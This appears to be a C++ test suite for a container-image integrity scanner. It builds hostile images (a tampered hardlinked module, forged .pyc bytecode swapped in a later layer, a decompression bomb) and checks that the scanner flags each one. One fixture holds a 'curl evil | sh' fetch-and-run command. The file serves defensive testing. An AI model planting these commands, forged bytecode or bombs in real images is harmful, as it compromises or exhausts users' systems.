// Hostile images through the real binary: an image author is not trusted.
// A hardlink across layers must show the bytes a container would run, a
// swapped pyc must not run instead of a verified source, and no small image
// may make a scan decompress gigabytes.

#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <nlohmann/json.hpp>
#include <sstream>

#include "base/sha256.hpp"
#include "scanner/python/record_parser.hpp"
#include "scanner/support/image_builder.hpp"

namespace envlock::scanner {
namespace {

using namespace envlock::testing;

const std::string kSite = "usr/lib/python3/dist-packages/";

std::string record_hash(const std::string& content) {
  std::string hex = sha256_hex(content), raw;
  for (std::size_t i = 0; i < hex.size(); i += 2) raw.push_back(static_cast<char>(std::stoi(hex.substr(i, 2), nullptr, 16)));
  return "sha256=" + urlsafe_b64(raw);
}

// Layer 1 holds a file somewhere (a package cache); layer 2 installs package
// foo whose module is a hardlink to it, with a RECORD that pins the good bytes.
void write_linked_package_image(const std::string& layout, const std::string& lower_content) {
  const std::string good = "print('good')\n";
  ImageSpec spec;
  spec.layers = {
      {{file("usr/lib/python3.11/os.py", "# stdlib\n"), file("opt/cache/foo/__init__.py", lower_content)},
       Compression::kGzip},
      {{file(kSite + "foo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n"),
        file(kSite + "foo-1.0.dist-info/RECORD",
             "foo/__init__.py," + record_hash(good) + "," + std::to_string(good.size()) +
                 "\nfoo-1.0.dist-info/METADATA,,\nfoo-1.0.dist-info/RECORD,,\n"),
        hardlink(kSite + "foo/__init__.py", "opt/cache/foo/__init__.py")},
       Compression::kGzip},
  };
  write_oci_layout(layout, spec);
}

TEST(HostileImage, AHardlinkToALowerLayerIsCheckedWithTheLowerFilesBytes) {
  TempDir tmp;
  write_linked_package_image(tmp / "good", "print('good')\n");
  write_linked_package_image(tmp / "evil", "import os; os.system('curl evil | sh')\n");
  envlock::testing::Run lock = envlock({"lock", "--image", tmp / "good", "-o", tmp / "good.lock"});
  ASSERT_EQ(lock.status, 0) << lock.err;
  // The module's bytes are the lower file's: they match RECORD, so nothing is wrong with the good image.
  envlock::testing::Run scan = envlock({"scan", "--image", tmp / "good", "--format", "json"});
  ASSERT_EQ(scan.status, 0) << scan.err;
  EXPECT_EQ(scan.out.find("__init__.py"), std::string::npos) << scan.out;
  envlock::testing::Run same = envlock({"check", "--lock", tmp / "good.lock", "--image", tmp / "good"});
  EXPECT_EQ(same.status, 0) << same.out << same.err;
  envlock::testing::Run evil = envlock({"check", "--lock", tmp / "good.lock", "--image", tmp / "evil"});
  EXPECT_EQ(evil.status, 1) << evil.out << evil.err;
  EXPECT_NE(evil.out.find("file-modified"), std::string::npos) << evil.out;
  EXPECT_NE(evil.out.find("foo/__init__.py"), std::string::npos) << evil.out;
}

// Byte code as this machine's python3 writes it, for a source at `origin`
// holding `source`: a timestamp pyc carrying `mtime` and the source's size,
// or an unchecked hash-based one (PEP 552), which Python loads without
// looking at the source.
const char* kCompile = R"(
import importlib._bootstrap_external as bootstrap, importlib.util, sys
out, origin, source, code_text, kind, mtime = sys.argv[1:7]
code = compile(code_text, origin, "exec")
if kind == "timestamp":
    data = bootstrap._code_to_timestamp_pyc(code, int(mtime), len(source.encode()))
else:
    data = bootstrap._code_to_hash_pyc(code, importlib.util.source_hash(source.encode()), False)
open(out, "wb").write(data)
)";

bool have(const char* tool) {
  return std::system(("command -v " + std::string(tool) + " >/dev/null 2>&1").c_str()) == 0;
}

// The image's Python: this machine's python3 (its pycs are what the image's would write).
struct Interpreter {
  std::string version;  ///< "3.11.7"
  std::string minor;    ///< "3.11"
  std::string tag;      ///< "cpython-311"
};

Interpreter host_python() {
  auto r = run({"python3", "-I", "-c",
                "import sys; v = sys.version_info; print(f'{v[0]}.{v[1]}.{v[2]} {v[0]}.{v[1]} '"
                " + sys.implementation.cache_tag)"});
  EXPECT_EQ(r.status, 0) << r.err;
  Interpreter py;
  std::istringstream(r.out) >> py.version >> py.minor >> py.tag;
  return py;
}

class ImageByteCode : public ::testing::Test {
 protected:
  static constexpr long kMtime = 1'700'000'000;  // every member's (image_builder.hpp)

  void SetUp() override { py_ = host_python(); }

  std::string pyc_path(const std::string& package) const {
    return package + "/__pycache__/__init__." + py_.tag + ".pyc";
  }
  std::string compile(const std::string& package, const std::string& source, const std::string& code,
                      const std::string& kind, long mtime = kMtime) {
    const std::string out = tmp_ / "out.pyc";
    auto r = run({"python3", "-I", "-c", kCompile, out, "/" + kSite + package + "/__init__.py", source, code, kind,
                  std::to_string(mtime)});
    EXPECT_EQ(r.status, 0) << r.err;
    return read_file(out);
  }
  // The interpreter, then packages foo (timestamp pyc) and bar (hash-based
  // pyc), installed as pip leaves them: source hashed in RECORD, pyc listed
  // without a hash.
  std::vector<Layer> base() {
    std::vector<Member> site;
    for (const std::string name : {"foo", "bar"}) {
      const std::string source = "def answer():\n    return 42\n";
      const std::string info = name + "-1.0.dist-info/";
      site.push_back(file(kSite + info + "METADATA", "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\n"));
      site.push_back(file(kSite + info + "RECORD", name + "/__init__.py," + record_hash(source) + "," +
                                                       std::to_string(source.size()) + "\n" + pyc_path(name) +
                                                       ",,\n" + info + "METADATA,,\n" + info + "RECORD,,\n"));
      site.push_back(file(kSite + name + "/__init__.py", source));
      site.push_back(file(kSite + pyc_path(name),
                          compile(name, source, source, name == "foo" ? "timestamp" : "hash")));
    }
    return {{{file("usr/lib/python" + py_.minor + "/os.py", "# stdlib\n"),
              file("usr/include/python" + py_.minor + "/patchlevel.h",
                   "#define PY_VERSION \"" + py_.version + "\"\n")},
             Compression::kGzip},
            {site, Compression::kGzip}};
  }
  // A pyc of `code` under the header the installed one has: what an attacker
  // who writes a layer puts there.
  Member forged(const std::string& package, const std::string& code, long mtime = kMtime) {
    const std::string source = "def answer():\n    return 42\n";
    return file(kSite + pyc_path(package), compile(package, source, code, package == "foo" ? "timestamp" : "hash", mtime));
  }
  std::string image(const std::string& name, std::vector<Layer> extra) {
    ImageSpec spec;
    spec.layers = base();
    for (auto& l : extra) spec.layers.push_back(std::move(l));
    write_oci_layout(tmp_ / name, spec);
    return tmp_ / name;
  }
  // "severity subject | message" of each file-modified finding of a check.
  static std::vector<std::string> findings(const envlock::testing::Run& r) {
    std::vector<std::string> out;
    auto report = nlohmann::json::parse(r.out, nullptr, false);
    EXPECT_TRUE(report.is_object()) << r.out << r.err;
    if (!report.is_object()) return out;
    for (const auto& f : report["findings"])
      if (f["category"] == "file-modified")
        out.push_back(f["severity"].get<std::string>() + " " + f["subject"].get<std::string>() + " | " +
                      f["message"].get<std::string>());
    std::sort(out.begin(), out.end());
    return out;
  }
  // The [[bytecode]] entries a full scan of `target` writes.
  static nlohmann::json bytecode(const std::vector<std::string>& target) {
    std::vector<std::string> args{"scan", "--format", "json"};
    args.insert(args.end(), target.begin(), target.end());
    auto r = envlock(args);
    EXPECT_EQ(r.status, 0) << r.err;
    auto doc = nlohmann::json::parse(r.out, nullptr, false);
    return doc.is_object() && doc.contains("bytecode") ? doc["bytecode"] : nlohmann::json();
  }
  // What the image's Python runs: the image unpacked as a runtime does
  // (umoci), its site directory imported by this machine's python3.
  std::string answers(const std::string& layout) {
    const std::string root = layout + "-unpacked";
    const std::string rootless = getuid() == 0 ? "" : " --rootless";
    auto unpacked = sh("umoci unpack" + rootless + " --image " + layout + ":latest " + root + " >/dev/null 2>&1");
    EXPECT_EQ(unpacked.status, 0) << unpacked.err;
    auto r = run({"python3", "-I", "-c",
                  "import sys; sys.path.insert(0, sys.argv[1]); import foo, bar; print(foo.answer(), bar.answer())",
                  root + "/rootfs/" + kSite});
    EXPECT_EQ(r.status, 0) << r.err;
    return r.out;
  }

  TempDir tmp_;
  Interpreter py_;
};

TEST_F(ImageByteCode, ASwappedPycInALaterLayerBlocks) {
  const std::string good = image("good", {});
  // A later layer swaps foo's timestamp pyc; bar's directory is made opaque
  // and refilled with another hash-based pyc: both keep headers Python accepts.
  const std::string evil = image("evil", {{{forged("foo", "def answer():\n    return 666\n"),
                                            opaque(kSite + "bar/__pycache__"),
                                            forged("bar", "def answer():\n    return 667\n")}}});
  if (have("umoci")) {
    ASSERT_EQ(answers(good), "42 42\n");
    ASSERT_EQ(answers(evil), "666 667\n") << "the attack is real: Python runs the swapped byte code";
  }
  const std::string lock = tmp_ / "good.lock";
  auto locked = envlock({"lock", "--image", good, "-o", lock});
  ASSERT_EQ(locked.status, 0) << locked.err;
  const std::string text = read_file(lock);
  EXPECT_NE(text.find("[[bytecode]]\npath = \"" + pyc_path("foo") + "\""), std::string::npos) << text;
  EXPECT_NE(text.find("[[bytecode]]\npath = \"" + pyc_path("bar") + "\""), std::string::npos) << text;

  auto same = envlock({"check", "--lock", lock, "--image", good, "--format", "json"});
  EXPECT_EQ(same.status, 0) << same.out << same.err;
  EXPECT_EQ(findings(same), std::vector<std::string>{});

  auto blocked = envlock({"check", "--lock", lock, "--image", evil, "--format", "json"});
  EXPECT_EQ(blocked.status, 1) << blocked.out << blocked.err;
  auto found = findings(blocked);
  ASSERT_EQ(found.size(), 2u) << blocked.out;
  for (const std::string name : {"bar", "foo"}) {
    const std::string& f = found[name == "bar" ? 0 : 1];
    EXPECT_TRUE(f.starts_with("block " + pyc_path(name) + " | ")) << f;
    EXPECT_NE(f.find("(bytecode-modified)"), std::string::npos) << f;
  }
}

TEST_F(ImageByteCode, LayersThatPythonWouldNotLoadFromOrThatRestoreThePycPass) {
  const std::string good = image("good", {});
  const std::string lock = tmp_ / "good.lock";
  ASSERT_EQ(envlock({"lock", "--image", good, "-o", lock}).status, 0);
  // foo's pyc swapped for one whose header is another mtime (stale: Python
  // compiles the verified source), bar's removed by a whiteout.
  const std::string stale = image("stale", {{{forged("foo", "def answer():\n    return 666\n", kMtime + 1),
                                             whiteout(kSite + "bar/__pycache__", "__init__." + py_.tag + ".pyc")}}});
  // Swapped in one layer, the installed pycs put back by the next: the top layer wins.
  const std::string restored = image("restored", {{{forged("foo", "def answer():\n    return 666\n"),
                                                    forged("bar", "def answer():\n    return 667\n")}},
                                                  {base()[1].members}});
  if (have("umoci")) {
    EXPECT_EQ(answers(stale), "42 42\n");
    EXPECT_EQ(answers(restored), "42 42\n");
  }
  for (const auto& target : {stale, restored}) {
    auto r = envlock({"check", "--lock", lock, "--image", target, "--format", "json"});
    EXPECT_EQ(r.status, 0) << target << r.out << r.err;
    EXPECT_EQ(findings(r), std::vector<std::string>{}) << target;
  }
}

TEST_F(ImageByteCode, ImageAndItsUnpackedRootPinTheSameByteCode) {
  if (!have("umoci")) GTEST_SKIP() << "umoci comes from scripts/bootstrap";
  const std::string evil = image("evil", {{{forged("foo", "def answer():\n    return 666\n")}}});
  ASSERT_EQ(answers(evil), "666 42\n");
  auto from_image = bytecode({"--image", evil});
  ASSERT_TRUE(from_image.is_array()) << from_image;
  EXPECT_EQ(from_image.size(), 2u) << from_image;
  EXPECT_EQ(from_image, bytecode({"--root", evil + "-unpacked/rootfs"}));
}

TEST(HostileImage, AHardlinkToNothingIsRefused) {
  TempDir tmp;
  ImageSpec spec;
  spec.layers = {{{file("usr/lib/python3.11/os.py", "")}}, {{hardlink(kSite + "evil.pth", "nowhere")}}};
  BuiltImage built = write_oci_layout(tmp / "img", spec);
  envlock::testing::Run scan = envlock({"scan", "--image", tmp / "img"});
  EXPECT_EQ(scan.status, 2);
  EXPECT_EQ(scan.err, "envlock: error: " + tmp / "img" + ": layer blobs/sha256/" + built.layer_blobs[1].substr(7) +
                          ": hardlink /" + kSite + "evil.pth to /nowhere: no such file in its layer or below " +
                          "(a container runtime refuses to unpack it)\n");
}

TEST(HostileImage, AZstdBombListedSixteenTimesIsReadOnceAndRefused) {
  TempDir tmp;
  // 96 MiB of zeros in a few KB; the manifest names it 16 times.
  RawLayer bomb = zero_file_layer("zeros", 96ull << 20);
  ASSERT_LT(bomb.blob.size(), 64u << 10);
  auto digests = write_raw_layout(tmp / "bomb", std::vector<RawLayer>(16, bomb));
  envlock::testing::Run scan = envlock({"scan", "--image", tmp / "bomb"});
  EXPECT_EQ(scan.status, 2);
  EXPECT_EQ(scan.err, "envlock: error: " + tmp / "bomb" + ": layer blobs/sha256/" + digests[0].substr(7) +
                          ": decompresses to more than 2000 times its compressed size past 67108864 bytes "
                          "(a decompression bomb)\n");
}

}  // namespace
}  // namespace envlock::scanner
